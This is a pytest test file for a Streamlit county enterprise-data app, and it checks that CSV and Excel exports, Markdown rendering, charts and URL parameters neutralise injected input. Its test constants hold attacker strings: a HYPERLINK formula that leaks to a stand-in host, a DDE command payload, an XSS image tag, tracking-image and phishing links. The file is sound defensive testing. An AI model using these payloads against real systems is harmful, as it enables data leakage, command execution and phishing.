"""Issue 17's reproductions (injection into files and pages, exposure, passwords, share tokens,
audit), each with the attacker's exact string."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from fixtures import firm, sign_in, uscc, write_warehouse
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from kechuang.access import audit, auth, signin
from kechuang.engine.warehouse import Warehouse
from kechuang.output import tables, workbook
from kechuang.zh import fmt

ROOT = Path(__file__).resolve().parent.parent
HYPERLINK = '=HYPERLINK("http://x.example/?q=leak","y")'
FORMULAS = [HYPERLINK, "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1"]
IMAGE = "![t](http://127.0.0.1:8699/track.png)测试"
PHISH = "[请点此重新登录](http://x.example/phish)"


def html(markdown: str) -> str:
    """What a CommonMark renderer (as Streamlit's) makes of a string."""
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)


# -- item 3: CSV formula injection ---------------------------------------------------------------


def csv_rows(data: bytes) -> list[list[str]]:
    import csv

    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote():
    frame = pl.DataFrame(
        {
            "企业名称": [*FORMULAS, "\tx", "\rx", "正常名称", None],
            "金额（万元）": [1.5, -1.0, -2.25, 0.0, 3.0, 4.0, 5.0, 6.0, None],
            "家数": [1, -2, 3, 4, 5, 6, 7, 8, 9],
        }
    )
    rows = csv_rows(tables.csv_bytes(frame))
    assert [r[0] for r in rows[1:]] == [
        "'" + HYPERLINK,
        "'=cmd|' /C calc'!A0",
        "'@SUM(1)",
        "'+1",
        "'-1",
        "'\tx",
        "'\rx",
        "正常名称",
        "",
    ]
    # numbers stay numbers: a negative amount is not a formula and gets no quote
    assert [r[1] for r in rows[1:]] == [
        "1.5",
        "-1.0",
        "-2.25",
        "0.0",
        "3.0",
        "4.0",
        "5.0",
        "6.0",
        "",
    ]
    assert [r[2] for r in rows[1:]] == ["1", "-2", "3", "4", "5", "6", "7", "8", "9"]


@pytest.mark.parametrize("dtype", [pl.Categorical, pl.Enum([HYPERLINK, "@SUM(1)", "正常名称"])])
def test_category_columns_get_the_same_quote(dtype):
    """A town or status column that a query hands over as a category (DuckDB ENUM) is text too."""
    frame = pl.DataFrame({"镇区": [HYPERLINK, "@SUM(1)", "正常名称"]}, schema={"镇区": dtype})
    rows = csv_rows(tables.csv_bytes(frame))
    assert [r[0] for r in rows[1:]] == ["'" + HYPERLINK, "'@SUM(1)", "正常名称"]
    book = openpyxl.load_workbook(io.BytesIO(tables.xlsx_bytes(frame)))
    assert [c.value for c in book.active["A"]][1:] == [HYPERLINK, "@SUM(1)", "正常名称"]
    assert [c.data_type for c in book.active["A"]][1:] == ["s", "s", "s"]


def test_a_login_attempt_with_a_formula_name_is_neutral_in_the_audit_csv(monkeypatch, tmp_path):
    data = write_warehouse(tmp_path / "data", enterprises=[firm(1)])
    monkeypatch.setenv("KECHUANG_DATA", str(data))
    with pytest.raises(signin.LoginError):
        signin.login(auth.users_path(), HYPERLINK, "wrong-password")
    files: list[bytes] = []
    monkeypatch.setattr(
        audit, "on_fetch", lambda d, *a, **k: files.append(d() if callable(d) else d) or files[-1]
    )
    at = sign_in(AppTest.from_file(str(ROOT / "app.py"), default_timeout=60), "admin")
    at.run()
    files.clear()  # the overview's tables
    at.switch_page("views/admin.py").run()
    assert not at.exception
    csv = next(f for f in files if f.decode("utf-8", "replace").startswith("\ufeff时间,账户"))
    names = [r[1] for r in csv_rows(csv)[1:]]
    # the name is recorded as typed (lower-cased, as every login name), behind a quote
    assert names == ["'" + HYPERLINK.lower()]


def test_ingest_rejects_are_written_through_the_same_csv_writer(tmp_path):
    from kechuang import ingest

    source = tmp_path / "企业.csv"
    source.write_text(
        f"统一社会信用代码,企业名称,所属镇区\n{uscc(1)},甲,掘港街道\nBAD,{'@SUM(1)'},掘港街道\n",
        encoding="utf-8",
    )
    (result,) = ingest.ingest(
        tmp_path / "data", [ingest.Source.from_path(source)], user="t", rejects_dir=tmp_path / "r"
    )
    written = [p for paths in result.rejects_paths.values() for p in paths]
    assert written and "'@SUM(1)" in Path(written[0]).read_text(encoding="utf-8-sig")


# -- item 4: the briefing workbook writes text, never formulas -----------------------------------


def test_a_town_named_like_a_formula_stays_text_in_the_briefing(tmp_path):
    data = write_warehouse(
        tmp_path / "data",
        enterprises=[firm(1, town=HYPERLINK), firm(2, town="长沙镇")],
        tech_contracts=[
            {
                "contract_id": "T1",
                "uscc": uscc(1),
                "amount_wan": 12.5,
                "registered_on": date(2026, 10, 30),
                "role": "卖方",
            }
        ],
    )
    book = workbook.briefing_workbook(Warehouse(data), date(2026, 10, 31), HYPERLINK)
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(re.search(rb"<f[ >]", z.read(n)) for n in sheets)
        assert not [n for n in z.namelist() if "hyperlink" in n.lower() and "sheet" in n]
    wb = openpyxl.load_workbook(io.BytesIO(book))
    cover = wb.worksheets[0]
    scope = next(r for r in cover.iter_rows() if r[0].value == "范围")[1]
    assert scope.value == HYPERLINK and scope.data_type == "s"
    progress = wb.worksheets[1]
    header = next(r for r in progress.iter_rows() if any(c.value == "口径" for c in r))
    col = next(c.column for c in header if c.value == "口径")
    scopes = [
        progress.cell(row=r, column=col)
        for r in range(header[0].row + 1, progress.max_row + 1)
        if progress.cell(row=r, column=col).value
    ]
    assert scopes and {c.value for c in scopes} <= {HYPERLINK, "全县"}
    assert all(c.data_type == "s" for c in scopes)


def test_every_workbook_refuses_to_turn_strings_into_formulas_or_links():
    frame = pl.DataFrame({"企业名称": FORMULAS + ["http://x.example/"], "n": [1.0] * 6})
    book = openpyxl.load_workbook(io.BytesIO(tables.xlsx_bytes(frame)))
    cells = [c for row in book.active.iter_rows(min_row=2, max_col=1) for c in row]
    assert [c.value for c in cells] == FORMULAS + ["http://x.example/"]
    assert all(c.data_type == "s" and c.hyperlink is None for c in cells)


# -- item 5: markdown injection ------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [IMAGE, PHISH, "a_b_c", "<img src=x onerror=alert(1)>", "# 标题\n- 列表", ":red[红] $x$"],
)
def test_md_shows_the_string_as_typed(text):
    rendered = html(fmt.md(text))
    assert "<img" not in rendered and "<a " not in rendered and "<em>" not in rendered
    assert "<h1" not in rendered and "<li>" not in rendered
    # the visible text is the input (line breaks become spaces)
    visible = re.sub(r"<[^>]+>", "", rendered).strip()
    import html as html_lib

    assert html_lib.unescape(visible) == " ".join(text.splitlines())


@pytest.fixture
def county(tmp_path, monkeypatch):
    data = write_warehouse(
        tmp_path / "data",
        enterprises=[firm(1, name=IMAGE, town="长沙镇"), firm(2, name="甲_乙_丙科技")],
    )
    monkeypatch.setenv("KECHUANG_DATA", str(data))
    return data


def enterprise_page(**params) -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    for k, v in params.items():
        at.query_params[k] = v
    at.run()
    at.switch_page("views/enterprise.py").run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_a_firm_named_like_an_image_loads_nothing_on_its_file(county):
    at = enterprise_page(uscc=uscc(1), as_of="2026-10-31")
    assert at.header[0].value == fmt.md(IMAGE)
    assert "<img" not in html(at.header[0].value) and "![t]" in html(at.header[0].value)


def test_a_link_in_the_uscc_parameter_is_not_clickable_in_the_error(county):
    at = enterprise_page(uscc=PHISH)
    (error,) = at.error
    assert "<a " not in html(error.value)
    assert "请点此重新登录" in error.value and "](http" not in error.value


def test_an_underscore_in_the_search_box_does_not_italicise_the_message(county):
    at = enterprise_page()
    at.text_input(key="enterprise_search").input("无_此_企业").run()
    info = next(i for i in at.info if "没有名称含" in i.value)
    assert "<em>" not in html(info.value) and "无_此_企业" in html(info.value)


# -- item 6: every URL parameter is checked, with a notice ---------------------------------------


def app_with(user: str = "analyst", **params) -> AppTest:
    at = sign_in(AppTest.from_file(str(ROOT / "app.py"), default_timeout=60), user)
    for k, v in params.items():
        at.query_params[k] = v
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_an_unknown_town_in_the_url_is_named_in_a_notice(county):
    at = app_with(town="不存在镇")
    assert [w.value for w in at.warning if "链接" in w.value] == [
        "链接中的镇区“不存在镇”在数据中不存在，已显示“全县”。"
    ]
    assert at.selectbox(key="town").value == "全县"


def test_a_town_officer_asking_for_another_town_is_told_so(county):
    at = app_with("changsha", town="掘港街道")
    notices = [w.value for w in at.warning]
    assert "链接中的镇区不在本账户的范围内，已显示“长沙镇”。" in notices
    assert not any("掘港街道" in n for n in notices)  # not even the name typed into the URL


def test_unknown_parameters_are_named_and_dropped(county):
    at = app_with(foo="bar", **{"<b>": "x"})
    assert "链接中的参数 \\<b\\>、foo 无法识别，已忽略。" in [w.value for w in at.warning]
    assert "foo" not in at.query_params and "<b>" not in at.query_params


def test_a_bad_metric_choice_in_the_url_is_named(county):
    at = app_with(metric="[x](http://x.example/)")
    (notice,) = [w.value for w in at.warning if "链接中的" in w.value]
    assert notice.startswith("链接中的") and "<a " not in html(notice) and "无效，已显示" in notice


def test_a_long_uscc_in_the_url_is_cut_in_the_message(county):
    at = enterprise_page(uscc="X" * 5000)
    (error,) = at.error
    assert len(error.value) < 120 and "…" in error.value


def test_error_details_never_reach_the_browser():
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["showErrorDetails"] == "none"


def test_a_town_named_like_a_link_is_text_in_the_charts():
    from kechuang.charts import overview as overview_charts
    from kechuang.charts import workbench as workbench_charts

    town = '<a href="http://x.example/phish">长沙镇</a>'
    fig = overview_charts.town_chart(
        pl.DataFrame({"town": [town, "掘港街道"], "value": [2.0, 1.0]}), "企业数", "家", town
    )
    assert list(fig.data[0].y) == [
        "掘港街道",
        '&lt;a href="http://x.example/phish"&gt;长沙镇&lt;/a&gt;',
    ]
    assert fig.data[0].marker.color[1] != fig.data[0].marker.color[0]  # still highlighted
    by_town = pl.DataFrame(
        {"town": [town], "n_population": [2], "n_active": [1], "n_worklist": [1]}
    )
    fig = workbench_charts.coverage_by_town_chart(by_town)
    assert all("<a" not in y for trace in fig.data for y in trace.y)
